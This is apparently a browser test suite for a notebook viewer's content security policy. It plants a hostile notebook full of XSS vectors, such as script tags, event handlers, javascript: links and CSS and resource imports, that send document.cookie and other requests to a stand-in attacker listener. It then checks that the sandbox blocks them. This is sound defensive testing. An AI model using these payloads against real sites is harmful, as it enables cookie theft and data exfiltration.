"""A version that tries everything, shown in a real browser by real notebook servers."""

import re
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Route

from bookstore_web.rendering.policy import frame_policy
from harness.browsing import CHROMIUM, take_screenshot
from harness.notebook_server import GENERATIONS, TOKEN, NotebookServer, notebook
from harness.shown_versions import (
    Listener,
    content_url,
    open_unchecked_browser,
    page_url,
    showing,
    store_version,
    watch,
)
from harness.waiting import wait_for

pytestmark = [
    pytest.mark.server,
    pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed"),
]


@pytest.fixture
def listener() -> Iterator[Listener]:
    listening = Listener()
    yield listening
    listening.stop()


#: For what notebook servers of the two generations might do differently.
on_both = pytest.mark.parametrize("server", GENERATIONS, indirect=True, scope="module")


@pytest.fixture(scope="module", params=["modern"])
def server(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[NotebookServer]:
    with showing(request.param, tmp_path_factory.mktemp("hostile")) as running:
        yield running


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    with open_unchecked_browser() as started:
        yield started


@pytest.fixture
def context(browser: Browser, server: NotebookServer) -> BrowserContext:
    """A browser that is logged in at the notebook server."""
    context = browser.new_context()
    page = context.new_page()
    page.goto(f"{server.url}/api/status?token={TOKEN}")
    page.close()
    assert context.cookies(), "the server has set no cookie"
    return context


#: A script that reaches out in several ways, if it runs.
SCRIPT = (
    "try {{ new Image().src = '{evil}/script-{name}?' + document.cookie }}"
    " catch (e) {{}}"
    "; fetch('{server}/api/contents').catch(() => 0)"
    "; fetch('{evil}/fetch-{name}').catch(() => 0)"
    "; try {{ parent.document.title = 'owned' }} catch (e) {{}}"
    "; document.title = 'owned'"
)
ELEMENTS = """
<script>{script}</script>
<img src="data:image/png;base64,xx" onerror="{script}">
<svg xmlns="http://www.w3.org/2000/svg" onload="{script}">
  <a xlink:href="javascript:{script}"><text>x</text></a>
  <image href="{evil}/svg-image-{name}"></image>
  <style>@import url({evil}/svg-import-{name});</style>
  <foreignObject><body onload="{script}"></body></foreignObject>
</svg>
<meta http-equiv="refresh" content="0;url={evil}/meta-{name}">
<base href="{evil}/base-{name}/">
<img src="relative-{name}.png"> <img src="{evil}/img-{name}">
<img srcset="{evil}/srcset-{name} 1x"> <input type="image" src="{evil}/input-{name}">
<link rel="stylesheet" href="{evil}/link-{name}">
<link rel="preconnect" href="{evil}"> <link rel="dns-prefetch" href="{evil}">
<link rel="prefetch" href="{evil}/prefetch-{name}">
<link rel="prerender" href="{evil}/prerender-{name}">
<link rel="modulepreload" href="{evil}/module-{name}">
<iframe src="{evil}/iframe-{name}"></iframe>
<iframe srcdoc="<script>{script}</script><img src='{evil}/srcdoc-{name}'>"></iframe>
<iframe src="{server}/api/contents"></iframe>
<object data="{evil}/object-{name}"></object> <embed src="{evil}/embed-{name}">
<video src="{evil}/video-{name}" poster="{evil}/poster-{name}" autoplay></video>
<audio src="{evil}/audio-{name}" autoplay></audio>
<style>@import url({evil}/import-{name});
@font-face {{ font-family: leak; src: url({evil}/font-{name}); }}
body {{ background: url({evil}/css-{name}); font-family: leak; }}
input[value^="a"] {{ background: url({evil}/value-{name}); }}</style>
<input value="abc" style="background: url({evil}/style-{name})">
<body background="{evil}/background-{name}">
<table background="{evil}/table-{name}"><tr><td>x</td></tr></table>
<form id="form-{name}" action="{server}/api/contents" method="post">
<input name="a"><button class="send" autofocus onfocus="{script}">Send</button></form>
<form action="{evil}/form-{name}"><button class="send">Send</button></form>
<details open ontoggle="{script}"><summary>x</summary></details>
<noscript><img src="{evil}/noscript-{name}"></noscript>
<a class="js" href="javascript:{script}">javascript</a>
<a class="data" href="data:text/html,<script>{script}</script>">data</a>
<a ping="{evil}/ping-{name}" class="ping" href="#nowhere">ping</a>
"""


def hostile(server: NotebookServer, evil: str) -> dict[str, Any]:
    """Return a notebook that tries everything in each place where HTML may stand."""

    def elements(name: str) -> str:
        known = {"evil": evil, "server": server.url, "name": name}
        script = SCRIPT.format(**known).replace('"', "&quot;")
        return ELEMENTS.format(script=script, **known)

    content = notebook("# <script>alert(1)</script>", "plot()")
    html = {"text/html": elements("html")}
    svg = (
        f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{SCRIPT}\">{ELEMENTS}</svg>"
    )
    known = {"evil": evil, "server": server.url, "name": "svg", "script": "0"}
    outputs = [
        html,
        {"image/svg+xml": svg.format(**known)},
        {"text/markdown": elements("markdown-output")},
        {"application/javascript": SCRIPT.format(**known)},
        {"image/png": f'"><img src="{evil}/png">'},
        {"text/latex": f"<img src={evil}/latex>"},
    ]
    content["cells"][1]["outputs"] = [
        {"output_type": "display_data", "data": data, "metadata": {}}
        for data in outputs
    ]
    for number, source in enumerate(
        [
            elements("markdown"),
            f"![x]({evil}/markdown-image) [js](javascript:alert(1))",
            "# The last heading",
        ]
    ):
        content["cells"].append(
            {
                "cell_type": "markdown",
                "id": f"text-{number}",
                "metadata": {},
                "source": source,
            }
        )
    return content


@on_both
@pytest.mark.parametrize("place", ["frame", "tab"])
def test_nothing_of_a_hostile_version_runs_or_reaches_out(
    server: NotebookServer, context: BrowserContext, listener: Listener, place: str
) -> None:
    path = f"hostile-{place}.ipynb"
    version = store_version(server, path, hostile(server, listener.url))
    url = content_url(server, path, version)
    page = context.new_page()
    seen = watch(context)
    page.goto(page_url(url) if place == "frame" else url)
    shown = page.frame_locator("iframe") if place == "frame" else page.locator("html")
    shown.get_by_role("heading", name="The last heading").wait_for()
    document = next(frame for frame in page.frames if "/view/content?" in frame.url)
    page.wait_for_timeout(1500)  # for late requests: there is no condition to wait for
    assert document.evaluate("window.origin") == "null"
    assert document.evaluate(READ_COOKIE) == "refused"
    for link in (".js", ".data", ".send"):
        for element in document.query_selector_all(link):
            element.dispatch_event("click")
            element.click(force=True, timeout=5000, no_wait_after=True)
    page.wait_for_timeout(500)
    places = ("view", "static/", "renderers/", "front/")
    ours = tuple(f"{server.url}/bookstore/{place}" for place in places)
    assert [url for url in seen if not url.startswith((*ours, "data:", "about:"))] == []
    assert len([url for url in seen if "/view/content?" in url]) == 1
    assert listener.asked == []
    assert path in page.title()
    take_screenshot(page, f"hostile-{place}-{server.generation}")


READ_COOKIE = """() => {
  try { return document.cookie } catch (error) { return 'refused' }
}"""


def test_without_its_policy_the_same_document_reaches_out(
    server: NotebookServer, context: BrowserContext, listener: Listener
) -> None:
    # Shows that the test above would see it if the document reached out.
    version = store_version(server, "free.ipynb", hostile(server, listener.url))
    url = content_url(server, "free.ipynb", version)
    page = context.new_page()

    def strip(route: Route) -> None:
        # Its own refresh would leave the page before all of it was asked for.
        body = route.fetch().body().replace(b'content="0;url', b'content="600;url')
        route.fulfill(body=body, content_type="text/html")

    page.route(url, strip)
    seen = watch(context)
    page.goto(url, wait_until="commit")
    page.wait_for_function("document.title == 'owned'")
    ways = ("script", "fetch", "srcset", "css", "import", "style")
    wanted = [f"/{way}-{name}" for way in ways for name in ("html", "markdown")]

    def missing() -> list[str]:
        page.wait_for_timeout(50)  # playwright handles events meanwhile
        reached = " ".join(listener.asked)
        return [part for part in wanted if part not in reached]

    api = f"{server.url}/api/contents"
    wait_for(lambda: not missing() and api in seen, what=f"{wanted} and {api}")


def test_a_link_opens_in_a_tab_that_knows_nothing_of_us(
    server: NotebookServer, context: BrowserContext, listener: Listener
) -> None:
    content = notebook()
    source = f"[out]({listener.url}/clicked)\n\n[down](#Below)\n\n# Below"
    content["cells"] = [
        {"cell_type": "markdown", "id": "a", "metadata": {}, "source": source}
    ]
    url = content_url(server, "l.ipynb", store_version(server, "l.ipynb", content))
    page = context.new_page()
    page.goto(page_url(url))
    frame = page.frame_locator("iframe")
    frame.get_by_role("link", name="down").click()
    assert len(context.pages) == 1
    with context.expect_page() as opened:
        frame.get_by_role("link", name="out").click()
    opened.value.wait_for_load_state()
    assert opened.value.title() == "outside"
    assert opened.value.evaluate("window.opener") is None
    asked = next(text for text in listener.asked if "/clicked" in text)
    assert "Referer" not in asked
    assert "Cookie" not in asked


@on_both
def test_the_policy_arrives_through_the_notebook_server(server: NotebookServer) -> None:
    version = store_version(server, "p.ipynb", notebook("1"))
    answer = server.request(
        "GET", content_url(server, "p.ipynb", version)[len(server.url) :]
    )
    assert answer.status_code == 200
    nonce = re.search(r'<script nonce="([^"]+)"', answer.text)
    assert nonce
    policy = frame_policy(nonce[1])
    assert answer.raw.headers.getlist("Content-Security-Policy") == [policy]
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Content-Type"] == "text/html; charset=utf-8"
